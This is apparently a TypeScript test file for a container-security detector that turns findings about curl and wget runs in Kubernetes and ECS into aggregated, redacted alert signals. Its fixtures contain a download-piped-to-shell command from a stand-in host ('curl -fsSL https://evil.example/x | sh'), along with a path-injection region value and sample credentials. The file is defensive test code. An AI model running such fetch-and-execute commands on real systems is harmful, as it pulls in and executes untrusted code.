import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ExecEvent, Finding } from "../../src/model.js";
import { RULE } from "../../src/model.js";
import {
  ANCESTORS_IN_SIGNAL,
  buildSignals,
  consoleEncode,
  logStreamConsoleUrl,
  MAX_EVENT_IDS,
} from "../../src/signals/build.js";
import { redactText } from "../../src/signals/redact.js";
import { TRIAGE_STEPS } from "../../src/signals/triage.js";
import { again, execEvent, finding } from "./finding-factory.js";

const ID = (n: number) => `3800000000000000000000000000000000000000000000000000${String(n).padStart(4, "0")}`;

/** One `kubectl exec` as the API server logs it at one audit stage. */
function auditStage(stage: number, auditID = "5b8e6a3c-8f0e-4a55-9d4e-2f5c1d7e9a01"): Finding {
  const event: ExecEvent = {
    process: { name: "curl", args: ["-fsSL", "https://evil.example/x.sh"] },
    ancestors: [],
    container: { name: "api" },
    workload: { platform: "eks", cluster: "prod-eks", namespace: "payments", pod: "api-7d9f" },
    inContainer: true,
    viaExecSession: true,
    time: `2024-05-01T10:00:0${stage}Z`,
    source: {
      format: "k8s-audit",
      logGroup: "/aws/eks/prod-eks/cluster",
      logStream: "kube-apiserver-audit-0123456789abcdef",
      eventId: ID(100 + stage),
      owner: "123456789012",
    },
    sessionKey: auditID,
    actor: { user: "alice@example.com", sourceIPs: ["203.0.113.7"], userAgent: "kubectl/v1.29.1" },
  };
  return finding({ event, severity: "high", reasons: ["a download is piped to a shell"] });
}

describe("buildSignals: aggregation", () => {
  it("folds three identical executions into one signal with count, first and last seen", () => {
    // prepare
    const base = finding();
    const findings = [
      again(base, ID(2), "2024-05-01T10:00:02Z"),
      again(base, ID(1), "2024-05-01T10:00:01Z"),
      again(base, ID(3), "2024-05-01T10:00:03Z"),
    ];
    // act
    const signals = buildSignals(findings);
    // assess
    expect(signals).toHaveLength(1);
    const [signal] = signals;
    expect(signal?.count).toBe(3);
    expect(signal?.firstSeen).toBe("2024-05-01T10:00:01Z");
    expect(signal?.timestamp).toBe("2024-05-01T10:00:01Z");
    expect(signal?.lastSeen).toBe("2024-05-01T10:00:03Z");
    expect(signal?.source.eventIds).toEqual([ID(1), ID(2), ID(3)]);
  });

  it("makes one signal of one kubectl exec logged at several audit stages", () => {
    const signals = buildSignals([auditStage(1), auditStage(2)]);

    expect(signals).toHaveLength(1);
    expect(signals[0]?.count).toBe(1);
    expect(signals[0]?.source.eventIds).toEqual([ID(101), ID(102)]);
    expect(signals[0]?.viaExecSession).toBe(true);
    expect(signals[0]?.actor).toEqual({
      user: "alice@example.com",
      sourceIPs: ["203.0.113.7"],
      userAgent: "kubectl/v1.29.1",
    });
  });

  it("keeps two exec sessions apart even with the same command", () => {
    const signals = buildSignals([auditStage(1, "session-a"), auditStage(2, "session-b")]);

    expect(signals).toHaveLength(2);
  });

  it("keeps different arguments apart", () => {
    const first = finding();
    const second = finding();
    second.event.process.args = ["-s", "https://example.com/other"];
    second.event.source.eventId = ID(2);

    expect(buildSignals([first, second])).toHaveLength(2);
  });

  it("keeps different containers, utilities and parents apart", () => {
    const base = finding();
    const otherContainer = finding();
    otherContainer.event.container.id = "containerd://ffff";
    const otherUtility = finding({ utility: { name: "wget", category: "download" } });
    const otherParent = finding();
    otherParent.event.ancestors[0] = { name: "bash", path: "/bin/bash" };

    expect(buildSignals([base, otherContainer, otherUtility, otherParent])).toHaveLength(4);
  });

  it("groups by container name and pod when the container id is unknown", () => {
    const a = finding();
    a.event.container = { name: "api" };
    const b = again(a, ID(2), "2024-05-01T10:00:09Z");
    const otherPod = again(a, ID(3), "2024-05-01T10:00:09Z");
    otherPod.event.workload.pod = "api-other";

    const signals = buildSignals([a, b, otherPod]);

    expect(signals.map((s) => s.count).sort()).toEqual([1, 2]);
  });

  it("takes the highest severity and the union of reasons, highest first", () => {
    const low = finding({ severity: "low", reasons: ["a network utility ran in a container"] });
    const critical = again(
      finding({
        severity: "critical",
        reasons: ["a download is piped to a shell", "a network utility ran in a container"],
      }),
      ID(2),
      "2024-05-01T10:00:05Z",
    );
    const medium = again(
      finding({ severity: "medium", reasons: ["the utility lies in a writable place (/tmp/curl)"] }),
      ID(3),
      "2024-05-01T10:00:06Z",
    );

    const [signal] = buildSignals([low, medium, critical]);

    expect(signal?.severity).toBe("critical");
    expect(signal?.reasons).toEqual([
      "a download is piped to a shell",
      "a network utility ran in a container",
      "the utility lies in a writable place (/tmp/curl)",
    ]);
  });

  it("caps event ids while count tells the truth", () => {
    const base = finding();
    const findings = Array.from({ length: 60 }, (_, i) =>
      again(base, ID(i), `2024-05-01T10:${String(i).padStart(2, "0")}:00Z`),
    );

    const [signal] = buildSignals(findings);

    expect(signal?.count).toBe(60);
    expect(signal?.source.eventIds).toHaveLength(MAX_EVENT_IDS);
    expect(signal?.source.eventIds[0]).toBe(ID(0));
  });

  it("returns nothing for no findings", () => {
    expect(buildSignals([])).toEqual([]);
  });
});

describe("buildSignals: stable ids", () => {
  const batch = (): Finding[] => {
    const base = finding();
    const other = finding({ utility: { name: "wget", category: "download" }, severity: "medium" });
    other.event.process = { name: "wget", path: "/usr/bin/wget", args: ["-q", "http://example.com/a"] };
    other.event.source.eventId = ID(50);
    return [
      again(base, ID(3), "2024-05-01T10:00:03Z"),
      again(base, ID(1), "2024-05-01T10:00:01Z"),
      other,
      auditStage(1),
      auditStage(2),
      again(base, ID(2), "2024-05-01T10:00:02Z"),
    ];
  };

  it("gives 32 hex characters", () => {
    for (const signal of buildSignals(batch())) expect(signal.id).toMatch(/^[0-9a-f]{32}$/);
  });

  it("yields the same signals, ids included, whatever the order of the batch", () => {
    const expected = buildSignals(batch());
    fc.assert(
      fc.property(fc.shuffledSubarray(batch(), { minLength: 6, maxLength: 6 }), (shuffled) => {
        expect(buildSignals(shuffled)).toEqual(expected);
      }),
      { numRuns: 50 },
    );
  });

  it("yields the same ids when the batch is retried", () => {
    expect(buildSignals(batch()).map((s) => s.id)).toEqual(buildSignals(batch()).map((s) => s.id));
  });

  it("gives different ids to the same command seen in different log events", () => {
    const first = finding();
    const later = again(first, ID(9), "2024-05-01T11:00:00Z");

    const [a] = buildSignals([first]);
    const [b] = buildSignals([later]);

    expect(a?.id).not.toBe(b?.id);
  });

  it("gives different ids to different exec sessions", () => {
    const [a] = buildSignals([auditStage(1, "session-a")]);
    const [b] = buildSignals([auditStage(1, "session-b")]);

    expect(a?.id).not.toBe(b?.id);
  });

  it("gives the same id to one session whichever of its stages arrived", () => {
    const [a] = buildSignals([auditStage(1)]);
    const [b] = buildSignals([auditStage(2)]);

    expect(a?.id).toBe(b?.id);
  });
});

describe("buildSignals: fields", () => {
  it("fills every field of a signal from a realistic finding", () => {
    const f = finding();
    const { process, ancestors, container, workload, time, source } = f.event;
    const [signal] = buildSignals([f], { region: "eu-west-1" });

    expect(signal).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{32}$/),
      rule: RULE,
      severity: "high",
      reasons: f.reasons,
      timestamp: time,
      firstSeen: time,
      lastSeen: time,
      count: 1,
      title: "curl executed in container api (payments/api-7d9f) from /tmp",
      message: "The process `curl` was executed, potentially to download additional tools.",
      utility: { name: "curl", category: "download" },
      process: { name: process.name, path: process.path, args: process.args },
      ancestors,
      container,
      workload,
      inContainer: true,
      viaExecSession: false,
      source: {
        format: "tetragon",
        logGroup: source.logGroup,
        logStream: source.logStream,
        eventIds: [source.eventId],
        owner: source.owner,
      },
      triage: [...TRIAGE_STEPS],
      links: {
        logStream:
          "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Faws$252Fcontainerinsights$252Fprod-eks$252Ftetragon/log-events/tetragon$252Fip-10-0-1-23$255B1$255D",
        mitreTactic: "https://attack.mitre.org/tactics/TA0011/",
        mitreTechnique: "https://attack.mitre.org/techniques/T1105/",
        rule: "https://github.com/netutil-detector/netutil-detector#the-rule",
      },
    });
  });

  it("carries five triage steps", () => {
    expect(buildSignals([finding()])[0]?.triage).toHaveLength(5);
  });

  it("uses null for missing container fields and process path", () => {
    const f = finding();
    f.event.container = {};
    delete f.event.process.path;

    const [signal] = buildSignals([f]);

    expect(signal?.container).toEqual({ id: null, name: null, image: null });
    expect(signal?.process.path).toBeNull();
    expect(signal?.title).toBe("curl executed in container unknown (payments/api-7d9f)");
  });

  it("titles an ECS Exec session with cluster and task", () => {
    const f = finding();
    f.event.workload = {
      platform: "ecs",
      cluster: "arn:aws:ecs:eu-west-1:123456789012:cluster/prod",
      task: "arn:aws:ecs:eu-west-1:123456789012:task/prod/0a1b2c3d4e5f",
    };
    f.event.container = { name: "web" };
    f.event.viaExecSession = true;
    f.event.sessionKey = "ecs-execute-command-0123456789abcdef0";

    const [signal] = buildSignals([f]);

    expect(signal?.title).toBe("curl executed in container web (ECS prod/0a1b2c3d4e5f) via ECS Exec");
  });

  it("keeps the exec command as the parent when the utility was found inside it", () => {
    const event = execEvent({
      process: { name: "sh", path: "/bin/sh", args: ["-c", "curl -fsSL https://evil.example/x | sh"] },
      ancestors: [],
      viaExecSession: true,
    });
    const f: Finding = {
      ...finding({ event }),
      process: { name: "curl", args: ["-fsSL", "https://evil.example/x"] },
    };

    const [signal] = buildSignals([f]);

    expect(signal?.process).toEqual({ name: "curl", path: null, args: ["-fsSL", "https://evil.example/x"] });
    expect(signal?.ancestors).toEqual([
      { name: "sh", path: "/bin/sh", args: ["-c", "curl -fsSL https://evil.example/x | sh"] },
    ]);
  });

  it(`caps ancestors at ${ANCESTORS_IN_SIGNAL}`, () => {
    const f = finding();
    f.event.ancestors = Array.from({ length: 40 }, (_, i) => ({ name: `p${i}`, path: `/bin/p${i}` }));

    expect(buildSignals([f])[0]?.ancestors).toHaveLength(ANCESTORS_IN_SIGNAL);
  });

  it("defaults the console region to us-east-1 and refuses a malformed one", () => {
    const [plain] = buildSignals([finding()]);
    const [bad] = buildSignals([finding()], { region: "x/../evil.com#" });

    expect(plain?.links.logStream).toMatch(
      /^https:\/\/us-east-1\.console\.aws\.amazon\.com\/cloudwatch\/home\?region=us-east-1#/,
    );
    expect(bad?.links.logStream).toBe(plain?.links.logStream);
  });

  it("redacts secrets and strips control characters before anything else sees them", () => {
    const f = finding();
    f.event.process.args = [
      "-H",
      "Authorization: Bearer eyToken123456",
      "-u",
      "admin:hunter2hunter2",
      "http://x",
    ];
    f.event.workload.pod = "api\x1b[31m-7d9f\nINJECTED";
    f.event.ancestors[0] = {
      name: "sh",
      path: "/bin/sh",
      args: ["-c", "curl --password s3cr3tpass http://x"],
    };

    const [signal] = buildSignals([f]);
    const text = JSON.stringify(signal);

    expect(signal?.process.args).toEqual([
      "-H",
      "Authorization: Bearer [REDACTED]",
      "-u",
      "admin:[REDACTED]",
      "http://x",
    ]);
    expect(signal?.ancestors[0]?.args).toEqual(["-c", "curl --password [REDACTED] http://x"]);
    expect(signal?.workload.pod).toBe("api-7d9f INJECTED");
    expect(text).not.toMatch(/eyToken123456|hunter2hunter2|s3cr3tpass|\\u001b|\\n/);
  });

  it("aggregates findings that differ only in a redacted secret", () => {
    const a = finding();
    a.event.process.args = ["-u", "admin:first-password", "http://x"];
    const b = again(a, ID(2), "2024-05-01T10:00:05Z");
    b.event.process.args = ["-u", "admin:second-password", "http://x"];

    const signals = buildSignals([a, { ...b, process: b.event.process }]);

    expect(signals).toHaveLength(1);
    expect(signals[0]?.count).toBe(2);
  });
});

describe("buildSignals: redaction once per distinct text", () => {
  it("redacts findings that share their text as it redacts each alone, without sharing arrays", () => {
    const a = finding();
    a.event.process.args = ["-u", "admin:hunter2hunter2", "http://x"];
    const b = again(a, ID(2), "2024-05-01T10:00:05Z");
    b.event.container.id = "containerd://0000000000000000000000000000000000000000000000000000000000000002";

    const both = buildSignals([a, { ...b, process: b.event.process }]);
    const alone = buildSignals([a]);

    expect(both).toHaveLength(2);
    expect(both[0]?.process.args).toEqual(alone[0]?.process.args);
    expect(both[1]?.process.args).toEqual(["-u", "admin:[REDACTED]", "http://x"]);
    expect(both[0]?.process.args).not.toBe(both[1]?.process.args);
  });

  it("leaves text of digits and time punctuation as redaction would (it skips redacting it)", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[0-9:.TZ+-]{0,40}$/), (text) => {
        expect(redactText(text)).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });
});

describe("console links", () => {
  it("double-encodes path components and writes % as $", () => {
    expect(consoleEncode("/aws/eks/prod/cluster")).toBe("$252Faws$252Feks$252Fprod$252Fcluster");
    expect(consoleEncode("2024/05/01/[$LATEST]abc")).toBe("2024$252F05$252F01$252F$255B$2524LATEST$255Dabc");
  });

  it("points China and GovCloud regions to their own consoles", () => {
    expect(logStreamConsoleUrl("cn-north-1", "g", "s")).toBe(
      "https://console.amazonaws.cn/cloudwatch/home?region=cn-north-1#logsV2:log-groups/log-group/g/log-events/s",
    );
    expect(logStreamConsoleUrl("us-gov-west-1", "g", "s")).toMatch(
      /^https:\/\/console\.amazonaws-us-gov\.com\//,
    );
  });
});

describe("buildSignals: the workload's stable names", () => {
  it("carries the owner, ECS service and family (the ledger's group key reads them), redacted", () => {
    const event = execEvent();
    event.workload = {
      ...event.workload,
      owner: { kind: "ReplicaSet", name: "api-5d8f7c9b4" },
      service: "checkout",
      family: "checkout-task",
    };
    const [signal] = buildSignals([finding({ event })]);
    expect(signal?.workload).toMatchObject({
      owner: { kind: "ReplicaSet", name: "api-5d8f7c9b4" },
      service: "checkout",
      family: "checkout-task",
    });
  });
});
